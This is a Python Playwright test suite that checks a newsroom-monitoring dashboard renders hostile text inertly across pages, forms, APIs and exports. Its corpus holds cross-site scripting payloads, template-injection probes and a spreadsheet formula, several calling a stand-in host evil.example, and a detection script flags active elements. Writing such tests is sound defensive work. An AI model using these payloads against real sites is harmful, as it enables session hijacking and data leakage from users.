"""Feeds, visitors and colleagues who mean ill: nothing that they write is ever run.

Every text of a corpus stands in every field that somebody else can fill in. A real
browser opens every page: no dialog, no broken policy, no request to another machine, and
no element in the page that could do anything by itself.
"""

import json
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from threading import Event
from urllib.parse import quote
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Browser

from browsing import Visitors, chromium, copy, dashboard, needs_chromium
from builders import assignment, item, kept_edition, show, subscriber, translation
from monitor.change import Author, Wanted
from monitor.comparison import BlindSpot, SideHealth
from monitor.config.kept import check_watchlist
from monitor.coverage.blindspots import Revision
from monitor.newsroom.content import LAST_HOUR
from monitor.previewing import correct, preview
from monitor.readers import RenderedEdition
from monitor.store.database import Store
from monitor.verbs.compose import Paths
from monitor.verbs.steps import index_items, mark_items, outline_stories

pytestmark = needs_chromium

CORPUS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style></noscript></template><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "]]><script>alert(1)</script>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<form action=https://evil.example/><button>x</button></form>",
    "{{ 7*7 }} {% raw %} {{ config }} ${7*7} #{7*7} %(n)s {n}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "\u202escript\u202c\u2066<b>\u2069 \ufeff\u200b<b>\u00ad",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u02bcx\u02bc",
    '=HYPERLINK("https://evil.example/","x")',
    '\\u003cscript\\u003ealert(1) \\x3cscript\\x3e \\"-alert(1)-\\"',
)
ALL = " ".join(CORPUS)
ACTIVE = """() => [...document.querySelectorAll("*")].flatMap(each => {
  const told = [each.outerHTML.slice(0, 200)];
  const tag = each.localName;
  if (["iframe", "object", "embed", "base", "style", "frame", "applet"].includes(tag)
      || tag === "script" && new URL(each.src).pathname !== "/static/desk.js"
      || tag === "meta" && each.httpEquiv
      || tag === "link" && new URL(each.href).origin !== location.origin
      || tag === "img" || tag === "form" && new URL(each.action).origin !== location.origin)
    return told;
  for (const {name, value} of each.attributes) {
    if (name.startsWith("on") || name === "style" || name === "srcdoc"
        || ["href", "src", "action", "formaction", "xlink:href"].includes(name)
           && !["http:", "https:"].includes(new URL(value, location).protocol))
      return told;
  }
  return [];
})"""
"""What in a page could act by itself or lead where it should not."""


@pytest.fixture(scope="module")
def folder(newsroom_folder: Path, tmp_path_factory) -> Path:
    """A newsroom where every text of the corpus stands in every field."""
    folder = copy(newsroom_folder, tmp_path_factory.mktemp("hostile"))
    add_outlets(folder / "feeds.yaml")
    by = Author(CORPUS[0], "page")
    with Store(folder / "monitor.db") as store:
        add_items(store)
        for nth, text in enumerate(CORPUS):
            # Neither forms nor lists take what cannot be shown, or a * within a term.
            plain = "".join(filter(str.isprintable, text))
            query = plain.replace('"', "'").replace("*", "x")
            asked = {"name": plain[:100], "query": f'"{query}" OR alert'}
            made = check_watchlist(asked, ())
            store.kept.add_watchlist(made, text[:60], LAST_HOUR)
            reader = subscriber(text[:100], address=f"r{nth}@desk.example")
            store.kept.add_subscriber(reader, text[:60], LAST_HOUR)
            wanted = Wanted("split", ("h-all",), (f"all-{nth}",), reason=text)
            state = preview(store, wanted, LAST_HOUR).state
            correct(store, wanted, state, by, LAST_HOUR)
        store.subscriptions.get(subscriber(CORPUS[2]), "tok-hostile")
        told = RenderedEdition(ALL, f"<p>{ALL}</p>", ALL)
        store.editions.add(kept_edition("dana", rendered=told))
        config = Paths(folder / "feeds.yaml", folder / "monitor.db").read_config()
        index_items(store, Event())
        mark_items(store, config, LAST_HOUR.replace(day=1), Event())
        outline_stories(store, config, Event())
    return folder


def add_outlets(feeds_yaml: Path) -> None:
    """Outlets and owners called by texts of the corpus."""
    lines = [
        json.dumps(
            {
                "url": f"https://hostile{nth}.example/feed",
                "outlet": text,
                "country": ("US", "MX")[nth % 2],
                "language": ("en", "es")[nth % 2],
                "kind": "national",
                "owner": text,
                "tz": "UTC",
            },
            ensure_ascii=False,
        )
        for nth, text in enumerate(CORPUS)
    ]
    known = feeds_yaml.read_text(encoding="utf-8")
    feeds_yaml.write_text(
        known + "".join(f"  - {line}\n" for line in lines), encoding="utf-8"
    )


def add_items(store: Store) -> None:
    """A story on both sides for each text, one of them all, and one of one side."""
    for nth, text in enumerate(CORPUS):
        moment = LAST_HOUR.replace(hour=nth % 4, minute=nth)
        # Which side follows which, and how each words it, is on pages of its own.
        us, mx = (
            item(
                f"{text} migrants",
                side,
                id=f"{side}-{nth}",
                outlet=outlet,
                summary=text,
                url=text,
                published=moment + after,
            )
            for side, outlet, after in (
                ("US", CORPUS[0], timedelta(0)),
                ("MX", CORPUS[3], timedelta(hours=1)),
            )
        )
        also, rest = (
            item(more, "US", id=name, outlet=text, published=moment, url=text)
            for more, name in ((text, f"all-{nth}"), (f"{text} .", f"rest-{nth}"))
        )
        made = [us, mx, also, rest]
        show(store, made, LAST_HOUR)
        told = [translation(each, text, text, warnings=(text,)) for each in made]
        store.translations.add(told, LAST_HOUR)
        store.stories.assign([assignment(each, f"h-{nth}") for each in (us, mx)])
        store.stories.assign([assignment(each, "h-all") for each in (also, rest)])
    store.blind_spots.put([Revision(None, SPOT)])


SPOT = BlindSpot(
    "h-all",
    "MX",
    since=LAST_HOUR - timedelta(hours=20),
    opened=LAST_HOUR - timedelta(hours=6),
    items=30,
    outlets=9,
    owners=9,
    texts=9,
    expected=4.2,
    covered=5,
    of=8,
    health=SideHealth("MX", 3, 0, 0.0),
)


@pytest.fixture(scope="module")
def address(folder: Path) -> Iterator[str]:
    with dashboard(folder) as address:
        yield address


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.fixture
def visitors(browser: Browser) -> Iterator[Visitors]:
    visitors = Visitors(browser)
    yield visitors
    visitors.leave()
    assert visitors.faults == []


PLACES = (
    *("/", "/?day=2025-04-08", "/stories", "/stories?watchlist=javascript%3Aalert(1)"),
    *("/items", "/stories/h-all", "/stories/h-0", "/stories/h-all/correct"),
    *("/corrections", "/corrections/3", "/outlets", "/blindspots", "/themes"),
    *(
        "/framing?days=1&concept=migrants",
        "/followers",
        "/health",
        "/watchlists",
        "/watchlists/new",
    ),
    *("/subscriptions", "/subscriptions/new", "/editions", "/search?q=alert"),
    "/search?q=alert&by=story",
)


SILENT = {"/watchlists/new", "/subscriptions/new", "/editions"}
"""Pages that show nothing that others wrote."""


@pytest.mark.parametrize("language", ["en", "es"])
@pytest.mark.parametrize("path", PLACES)
def test_what_others_wrote_is_shown_and_does_nothing(address, visitors, path, language):
    page = visitors.visit(address, locale={"en": "en-US", "es": "es-MX"}[language])
    assert page.goto(path).ok
    assert "alert(1)" in page.locator("main").text_content() or path in SILENT
    assert page.locator("html").get_attribute("lang") == language
    assert page.evaluate(ACTIVE) == []


SAID = (
    *("/search?q={}", "/search?q=agua&outlet={}", "/stories?outlet={}&theme={}"),
    *("/stories?watchlist={}", "/items?outlet={}&from={}", "/corrections?person={}"),
    *("/watchlists?said=saved&name={}", "/subscriptions?said=saved&name={}"),
    *("/watchlists/edit?name={}", "/watchlists/remove?name={}", "/outlets/{}"),
    *("/subscriptions/edit?name={}", "/subscriptions/remove?name={}", "/?day={}"),
    *("/stories/{}", "/nowhere/{}", "/editions?subscriber={}", "/?lang={}&{}={}"),
    *("/sign-in?next={}", "/corrections/{}"),
)


@pytest.mark.parametrize("path", SAID)
def test_what_an_address_says_is_shown_and_does_nothing(address, visitors, path):
    page = visitors.visit(address)
    texts = CORPUS if path == "/search?q={}" else (*CORPUS[:12:5], *CORPUS[14:18], ALL)
    for text in texts:
        answer = page.goto(path.replace("{}", quote(text, safe="")))
        assert answer.status < 500
        assert page.evaluate(ACTIVE) == [], text


def test_what_a_form_says_comes_back_and_does_nothing(address, visitors):
    page = visitors.visit(address)
    for path, field in (
        ("/watchlists/new", "#query"),
        ("/subscriptions/new", "#s-tz"),
        ("/stories/h-all/correct", "#target"),
        ("/stories/h-all/correct", "#find"),
    ):
        page.goto(path)
        for each in (
            page.locator("main form")
            .locator("input[name]:is([type=text], :not([type])), textarea")
            .all()
        ):
            each.fill(CORPUS[2])
        page.locator(field).fill(ALL[:400])
        page.locator("main form").evaluate("each => each.noValidate = true")
        page.locator("main form button").last.click()
        page.wait_for_load_state("load")
        assert page.evaluate(ACTIVE) == [], path


def test_an_effect_and_its_undoing_show_and_do_nothing(address, visitors):
    page = visitors.visit(address)
    page.goto("/corrections/5")
    page.locator("details.undo summary").click()
    page.locator("details.undo input[name=reason]").fill(ALL[:400])
    page.locator("details.undo button").click()
    page.wait_for_load_state("load")
    assert page.locator("button[value=do]").is_visible()
    assert page.evaluate(ACTIVE) == []


FILES = {
    "/stories.json": "application/json",
    "/news.json": "application/json",
    "/api/v1/stories": "application/json",
    "/api/v1/items": "application/json",
    "/api/v1/corrections": "application/json",
    "/api/v1/stories/h-all": "application/json",
    "/export/stories.json": "application/json",
    "/export/items.jsonl": "application/jsonl",
    "/export/items.csv": "text/csv",
    "/export/corrections.csv": "text/csv",
    "/stories.atom": "application/atom+xml",
    "/feeds.opml": "text/x-opml",
    "/atoms.opml": "text/x-opml",
    "/editions/dana-2026-03-02.txt": "text/plain",
}


@pytest.mark.parametrize("path", FILES)
def test_files_are_what_they_say_and_nothing_else(address, visitors, path):
    page = visitors.visit(address)
    answer = page.request.get(path)
    assert answer.ok
    assert answer.headers["content-type"].startswith(FILES[path])
    assert answer.headers["x-content-type-options"] == "nosniff"
    text = answer.text()
    if path.endswith((".atom", ".opml")):
        tags = {
            each.tag.rpartition("}")[2] for each in ElementTree.fromstring(text).iter()
        }
        assert not tags & {"script", "x", "style", "img"}
    elif FILES[path] == "application/json":
        json.loads(text)
    assert "alert(1)" in text or path == "/news.json"
    if "/export/" not in path and not path.endswith(".opml"):  # not for a browser
        page.goto(path)


def test_an_edition_runs_no_script_of_what_it_holds(address, visitors):
    page = visitors.visit(address)
    policy = page.goto("/about").headers["content-security-policy"]
    assert "unsafe" not in policy
    answer = page.request.get("/editions/dana-2026-03-02")
    assert "script-src" in (told := answer.headers["content-security-policy"]) or (
        "default-src 'none'" in told
    )
